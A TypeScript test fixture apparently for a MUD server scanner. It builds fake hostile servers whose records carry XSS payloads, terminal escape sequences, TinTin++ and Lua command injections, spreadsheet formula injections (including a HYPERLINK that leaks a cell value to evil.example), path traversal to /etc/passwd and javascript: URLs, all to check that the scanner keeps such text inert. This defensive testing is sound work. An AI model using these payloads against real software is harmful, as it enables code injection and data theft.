import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fingerprintOf } from "@mudlark/scanner/fingerprint";
import { canonicalJson, readRecord, type Mssp, type ScanRecord } from "@mudlark/scanner/record";

/** What hostile servers send to the scanner, and must never take effect. Each is text, wherever it appears. */
const markup = [
  `<script>alert("mudlark")</script>`,
  `"><img src=x onerror=alert(1)><svg onload=alert(2)>`,
  `</title></style></textarea></script><script>alert(3)</script>`,
  `<!--<script>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert(4)</script>`,
  `' onmouseover='alert(5)' x='`,
  "`${alert(6)}` {{alert(7)}} {alert(8)} <%= alert(9) %>",
  `<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">`,
  `<iframe srcdoc="<script>alert(10)</script>"></iframe><form action="https://evil.example/"><button>`,
];
/** Commands for terminals, XML 1.0 parsers, TinTin++, Lua and spreadsheets. */
const commands = [
  `\x1b]0;pwned\x07\x1b[2J\x9b31m\x85`,
  `\uffff\ufffe\u0000\u0008\u000b \ufdd0 \u{1ffff}`,
  `};#system {touch /tmp/pwned};#nop {`,
  `"] = os.execute("touch /tmp/pwned"), ["x`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `fine;=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `first\nsecond\r\n-2+3\u2028third\u2029fourth`,
];
/** Text that hides, reorders or breaks the text around it. */
const shapes = [
  `\u202eexe.dum\u202c \u2066\u2067`,
  `\u200b\u200c\u200d\u2060\ufeff\u00ad`,
  `\u0301\u0302\u0303`.repeat(30),
  `A${"\u0335\u0336\u0337\u0489".repeat(60)}`,
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d".repeat(30),
  `\ud800 \udfff lone`,
  "W".repeat(3000),
  "\u3164\u115f\u2800",
];
/** Names that are special to file systems, addresses or JavaScript. */
const reserved = [
  "..",
  ".",
  "/",
  "../../../etc/passwd",
  "con",
  "index",
  "404",
  "__proto__",
  "constructor",
  "?#%2e%2e%2f",
  "-",
  "INDEX.html",
];
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//.example.com",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "https://paypal.com@evil.example/",
  "//evil.example/x",
  'https://evil.example/"onmouseover=alert(1)//',
  "http://192.168.0.10/reboot",
  "http://[::1]/",
  "http://localhost.localdomain:8080/",
  "file:///etc/passwd",
  "https:evil.example",
  "\\\\evil.example\\share.example",
];

interface Hostile {
  id: string;
  mssp: Mssp;
  banner?: string;
  more?: Partial<NonNullable<ScanRecord["mudlark"]>>;
}

const own = (names: readonly (readonly [string, string | string[]])[]): Mssp =>
  names.reduce<Mssp>((all, [name, value]) => Object.defineProperty(all, name, { value, enumerable: true }), {});
const ordinary = [
  "NAME",
  "CODEBASE",
  "FAMILY",
  "GENRE",
  "SUBGENRE",
  "GAMEPLAY",
  "LANGUAGE",
  "LOCATION",
  "STATUS",
  "DESCRIPTION",
  "CONTACT",
  "WEBSITE",
  "DISCORD",
  "ICON",
  "CREATED",
  "PLAYERS",
  "UPTIME",
  "SSL",
  "PORT",
  "MINIMUM AGE",
  "GMCP",
];

/** A server that answers every variable with the same text, including as the name of a variable. */
function saying(id: string, text: string): Hostile {
  return {
    id,
    mssp: own([...ordinary.map((name) => [name, text] as const), [text.slice(0, 100), text]]),
    banner: `${text}\r\n\x1b[31m${text}\x1b[0m\r\nBy what name shall I call you? `,
    more: {
      tls: [
        { port: 4443, ok: false, problems: [], error: text.slice(0, 300) },
        {
          port: 4444,
          ok: true,
          protocol: "TLSv1.3",
          problems: ["self-signed"],
          certificate: {
            subject: `CN=${text}`,
            issuer: `CN=${text}`,
            names: [text],
            validFrom: "2026-01-01T00:00:00.000Z",
            validTo: "2027-01-01T00:00:00.000Z",
            sha256: "00",
          },
        },
      ],
      evidence: {
        GMCP: {
          offered: "WILL",
          reply: "agreed",
          data: 3,
          sample: text.slice(0, 200),
          claimed: text.slice(0, 100),
          on: ["first"],
        },
      },
      gmcp: [{ package: text.slice(0, 200), value: text.slice(0, 4096) }],
      msdp: own([
        [text, text],
        ["__proto__", text],
      ]),
      notes: [{ code: text.slice(0, 60), text: text.slice(0, 500) }],
    },
  };
}

const many = (count: number, of: (index: number) => string): string[] =>
  Array.from({ length: count }, (_, index) => of(index));

/** Servers that send as much as the scanner keeps. */
const greedy: Hostile[] = [
  {
    id: "many-values",
    mssp: own(
      ["GAMEPLAY", "LANGUAGE", "GENRE", "CODEBASE", "FAMILY", "NAME", "LOCATION"].map((name) => [
        name,
        many(64, (index) => many(60, (part) => `${name.slice(0, 2)}${String(index)}x${String(part)}`).join(",")),
      ]),
    ),
  },
  {
    id: "many-variables",
    mssp: own(
      many(400, (index) => `<b>_${String(index)}_${"n".repeat(80)}`).map((name) => [
        name,
        many(64, () => "v".repeat(150)),
      ]),
    ),
  },
  {
    id: "figures",
    mssp: own([
      ["NAME", "Figures"],
      ["PLAYERS", "1e308"],
      ["UPTIME", "99999999999999999999"],
      ["CREATED", "99999"],
      ["SSL", "70000"],
      ["PORT", ["0", "70000", "-1", "NaN"]],
      ["CRAWL DELAY", "-99999999999"],
      ["MINIMUM AGE", "999999999"],
      ["AREAS", "-5"],
    ]),
    banner: `\x1b[99999999999b\x1b[2147483647L\x1b[1;99999r\x1b[?3h${"\x1b[9999C".repeat(500)}${"\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07".repeat(50)}`,
  },
];

/** All hostile servers, with the contents of their records. */
export const hostileServers: readonly Hostile[] = [
  ...[...markup, ...commands, ...shapes].map((text, index) => saying(`sayer-${String(index)}`, text)),
  ...reserved.map((text, index) => saying(`reserved-${String(index)}`, text)),
  ...addresses.map((text, index) => saying(`address-${String(index)}`, text)),
  ...greedy,
  saying("index", "<b>index</b>"),
  saying("404", "four-oh-four"),
];

/** A record as the census writes it, for a server that sends all this. */
function hostileRecord({ mssp, banner = "", more }: Hostile, port: number): ScanRecord {
  const data = {
    "offered-options": ["MSSP"],
    "probed-protocol": "server",
    "refused-options": [],
    "requested-options": [],
    "scan-type": "quick",
  };
  const visited = "2026-06-29T03:00:00.000Z";
  return {
    "server-probe": {
      fingerprint: fingerprintOf(data),
      "fingerprint-data": data,
      session_data: { banner_before_return: banner, banner_after_return: "", encoding: "utf-8", mssp },
    },
    sessions: [{ host: "mud.example.net", ip: "192.0.2.7", port, connected: visited }],
    mudlark: {
      schema: 1,
      generator: "mudlark (hostile)",
      rule: "telnetlib3-2.5.0",
      origin: "scan",
      outcome: { code: "ok", reason: "The server spoke and the visit was finished.", phase: "done" },
      visited,
      transport: "telnet",
      encoding: { name: "utf-8", source: "bytes" },
      raw: { before: Buffer.from(banner, "utf8").toString("base64"), after: "" },
      ...more,
    },
  };
}

/** Adds a listing, records, logs and a night of readings to a data directory. */
export async function writeHostileWorld(data: string): Promise<void> {
  await mkdir(join(data, "servers"), { recursive: true });
  await mkdir(join(data, "records"), { recursive: true });
  await mkdir(join(data, "readings", "2026"), { recursive: true });
  const readings: string[] = [];
  for (const [index, server] of hostileServers.entries()) {
    const { id, mssp } = server;
    const port = 4000 + index;
    await writeFile(
      join(data, "servers", `${id}.yml`),
      `name: Hostile ${id}\naddresses:\n  - host: mud.example.net\n    port: ${String(port)}\n`,
    );
    const text = `${canonicalJson(hostileRecord(server, port), 2)}\n`;
    readRecord(text, id);
    await writeFile(join(data, "records", `${id}.json`), text);
    const said = String(mssp.NAME ?? "");
    await writeFile(join(data, "records", `${id}.log`), `DEBUG mssp: ${said}\n`);
    const visit = { id, outcome: "ok", host: "mud.example.net", port, ms: { total: 900 } };
    const cut = said.slice(0, 190);
    readings.push(
      JSON.stringify({ ...visit, at: "2026-06-28T03:00:00Z", changed: ["new"] }),
      JSON.stringify({
        ...visit,
        at: "2026-06-29T03:00:00Z",
        players: 999_999_999,
        booted: 9_999_999_999,
        changed: ["mssp", "certificate", "address"],
        differences: [
          { what: "mssp", name: cut, from: cut, to: cut },
          { what: "certificate", name: cut, from: cut },
          { what: "address", name: cut, to: cut },
        ],
      }),
    );
  }
  await writeFile(join(data, "readings", "2026", "2026-06-29.ndjson"), `${readings.join("\n")}\n`);
}
